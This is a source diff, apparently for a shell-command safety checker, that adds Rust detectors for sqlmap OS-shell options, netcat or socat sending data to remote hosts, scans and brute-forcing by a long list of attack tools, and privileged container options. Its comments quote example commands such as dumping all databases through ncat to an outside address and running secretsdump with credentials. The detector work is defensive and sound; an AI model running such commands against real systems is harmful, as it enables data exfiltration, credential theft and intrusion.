@@ -182,6 +182,22 @@ pub(super) fn runs_another_program(c: &Cmd<'_>) -> bool {
             })
         });
     }
+    // sqlmap runs commands on the server it injects into (`--os-cmd`,
+    // `--os-shell`, `--os-pwn`, `--os-bof`) or writes a file there.
+    if c.is(&["sqlmap", "sqlmap.py"]) {
+        return c.values().any(|v| {
+            let name = v.split_once('=').map_or(v, |(n, _)| n);
+            matches!(
+                name,
+                "--os-cmd"
+                    | "--os-shell"
+                    | "--os-pwn"
+                    | "--os-bof"
+                    | "--os-smbrelay"
+                    | "--file-write"
+            )
+        });
+    }
     // tcpdump runs `-z CMD` on each file it finishes writing.
     if c.is(&["tcpdump"]) {
         return c.flag(&["-z"]);
@@ -514,6 +530,217 @@ fn remote_module(v: &str) -> bool {
     })
 }
 
+/// Whether a command sends another machine what it reads over a raw
+/// connection: a netcat or telnet given stdin (`mysqldump --all-databases
+/// | ncat 198.51.100.7 9000`, `nc host 9000 < data.csv`), socat joining a
+/// file or stdin to a remote address. What leaves is no protocol a rule can
+/// read (a bash `/dev/tcp/…` redirect is `net.reverse_shell`'s). A port
+/// probe (`nc -z`) sends nothing; loopback is this machine.
+pub(super) fn sends_raw(c: &Cmd<'_>) -> bool {
+    let netcat = c.is(&[
+        "nc",
+        "ncat",
+        "netcat",
+        "nc.traditional",
+        "nc.openbsd",
+        "telnet",
+        "pwncat",
+    ]);
+    if !netcat && !c.is(&["socat"]) {
+        return false;
+    }
+    let fed = !c.command.upstream.is_empty()
+        || c.command.stdin_text.is_some()
+        || c.command.stdin_dynamic
+        || c.redirects().iter().any(|r| {
+            matches!(r.fd, None | Some(0))
+                && matches!(
+                    r.op,
+                    crate::parse::RedirectOp::Read
+                        | crate::parse::RedirectOp::HereDoc
+                        | crate::parse::RedirectOp::HereString
+                )
+        });
+    if netcat {
+        return fed
+            && !c.flag(&["-z", "-l", "--listen"])
+            && c.operands()
+                .iter()
+                .find(|w| !w.value.bytes().all(|b| b.is_ascii_digit()))
+                .is_some_and(|h| !super::cmd::is_loopback(&h.value));
+    }
+    // socat's two addresses: one reaching out (`TCP:host:port`), the
+    // other a file (`OPEN:dump.sql`) or a fed stdin (`-`).
+    let addresses = c.operands();
+    let remote = |a: &str| {
+        let lower = a.to_ascii_lowercase();
+        let Some((kind, rest)) = lower.split_once(':') else {
+            return false;
+        };
+        ["tcp", "udp", "openssl", "sctp"]
+            .iter()
+            .any(|k| kind.starts_with(k))
+            && !kind.contains("listen")
+            && !super::cmd::is_loopback(rest.split(',').next().unwrap_or(rest))
+    };
+    let file = |a: &str| {
+        let lower = a.to_ascii_lowercase();
+        ["open:", "file:", "gopen:"]
+            .iter()
+            .any(|p| lower.starts_with(p))
+    };
+    addresses.iter().any(|a| remote(&a.value)) && (fed || addresses.iter().any(|a| file(&a.value)))
+}
+
+/// Tools made to scan, brute-force or break into other machines.
+const ATTACK_TOOLS: &[&str] = &[
+    "nmap",
+    "masscan",
+    "zmap",
+    "rustscan",
+    "unicornscan",
+    "nikto",
+    "nuclei",
+    "sqlmap",
+    "sqlmap.py",
+    "hydra",
+    "medusa",
+    "ncrack",
+    "patator",
+    "crowbar",
+    "wpscan",
+    "joomscan",
+    "gobuster",
+    "ffuf",
+    "dirb",
+    "dirsearch",
+    "feroxbuster",
+    "wfuzz",
+    "kr",
+    "kiterunner",
+    "dnsmap",
+    "dnsenum",
+    "dnsrecon",
+    "fierce",
+    "massdns",
+    "enum4linux",
+    "enum4linux-ng",
+    "crackmapexec",
+    "cme",
+    "nxc",
+    "netexec",
+    "responder",
+    "bettercap",
+    "ettercap",
+    "arpspoof",
+    "mitm6",
+    "aireplay-ng",
+    "mdk3",
+    "mdk4",
+    "msfconsole",
+    "evil-winrm",
+    "kerbrute",
+    "smbmap",
+    "onesixtyone",
+    "commix",
+    "xsstrike",
+];
+
+/// Impacket's tools, by their script names (`secretsdump.py`) or as
+/// packaged (`impacket-secretsdump`).
+const IMPACKET: &[&str] = &[
+    "psexec",
+    "smbexec",
+    "wmiexec",
+    "dcomexec",
+    "atexec",
+    "secretsdump",
+    "getuserspns",
+    "getnpusers",
+    "gettgt",
+    "getst",
+    "rpcdump",
+    "samrdump",
+    "lookupsid",
+    "ntlmrelayx",
+    "smbclient",
+    "mssqlclient",
+    "sambapipe",
+    "ticketer",
+    "addcomputer",
+    "dacledit",
+    "owneredit",
+    "rbcd",
+    "smbserver",
+    "getadusers",
+    "findDelegation",
+];
+
+/// Whether a command runs a tool made to scan, brute-force or break into
+/// other machines (`nmap -sV scanme.example.com`, `hydra -l admin -P
+/// pw.txt ssh://10.0.0.5`, `secretsdump.py corp/admin:pw@10.0.0.5`)
+/// at one that is not this machine: every target it names on loopback
+/// (`nikto -h http://127.0.0.1:8080`) is a check of one's own service.
+pub(super) fn attacks_host(c: &Cmd<'_>) -> bool {
+    let impacket = || {
+        let base = c
+            .name
+            .strip_suffix(".py")
+            .or_else(|| c.name.strip_prefix("impacket-"));
+        base.is_some_and(|b| IMPACKET.iter().any(|t| t.eq_ignore_ascii_case(b)))
+    };
+    if !c.is(ATTACK_TOOLS) && !impacket() {
+        return false;
+    }
+    // nmap's list scan only names the targets; it sends them nothing.
+    if c.is(&["nmap"]) && c.values().any(|v| v == "-sL") {
+        return false;
+    }
+    let mut hosts = c.values().filter_map(target_host).peekable();
+    hosts.peek().is_none() || !hosts.all(super::cmd::is_loopback)
+}
+
+/// The machine a word names, for [`attacks_host`]: a URL's host, the host
+/// after `user@`, an address or network, `localhost`, or a name with
+/// dots that is not a file's (`scanme.example.com`, not `pw.txt`).
+fn target_host(v: &str) -> Option<&str> {
+    let v = match v.split_once('=') {
+        Some((option, value)) if option.starts_with('-') => value,
+        _ => v,
+    };
+    let v = v.split_once("://").map_or(v, |(_, rest)| rest);
+    let v = v.rsplit_once('@').map_or(v, |(_, host)| host);
+    let host = v.split('/').next().unwrap_or(v);
+    let name = host.rsplit_once(':').map_or(host, |(h, port)| {
+        if port.bytes().all(|b| b.is_ascii_digit()) {
+            h
+        } else {
+            host
+        }
+    });
+    const FILES: &[&str] = &[
+        "txt", "lst", "list", "xml", "json", "csv", "nse", "yaml", "yml", "conf", "log", "gz",
+        "zip", "pcap", "html", "py", "sh", "rc", "out", "ini", "req",
+    ];
+    let last = name.rsplit('.').next().unwrap_or("");
+    let address = !name.is_empty()
+        && name.bytes().all(|b| b.is_ascii_digit() || b == b'.')
+        && name.contains('.');
+    let named = name.contains('.')
+        && last.len() >= 2
+        && last.bytes().all(|b| b.is_ascii_alphabetic())
+        && !FILES.contains(&last.to_ascii_lowercase().as_str())
+        && name
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-');
+    (address
+        || named
+        || name.eq_ignore_ascii_case("localhost")
+        || name == "::1"
+        || host.starts_with('['))
+    .then_some(host)
+}
+
 /// Whether npm's runner was told to install what it runs without asking
 /// (`-y`, `--yes`, `--yes=true`).
 fn said_yes<'w>(mut options: impl Iterator<Item = &'w Word>) -> bool {
@@ -566,6 +793,26 @@ pub(super) fn container_privileged(c: &Cmd<'_>) -> bool {
         .take_while(|v| *v != "--")
         .any(|v| v == "--allow-privileged" || v.starts_with("--allow-privileged="))
     {
+        return true;
+    }
+    // Options handed on to the containers a tool starts (`act
+    // --container-options "--privileged -v /:/host"`).
+    if c.full_option_values(&[
+        "--container-options",
+        "--container-opts",
+        "--docker-options",
+    ])
+    .iter()
+    .any(|v| {
+        v.split_whitespace().any(|o| {
+            o.starts_with("--privileged")
+                || o.starts_with("--pid=host")
+                || o.starts_with("--cap-add")
+                || o.starts_with("/:/")
+                || o.starts_with("--volume=/:")
+                || o.contains(".sock:")
+        })
+    }) {
         return true;
     }
     if !c.is(&["docker", "podman", "nerdctl"]) {
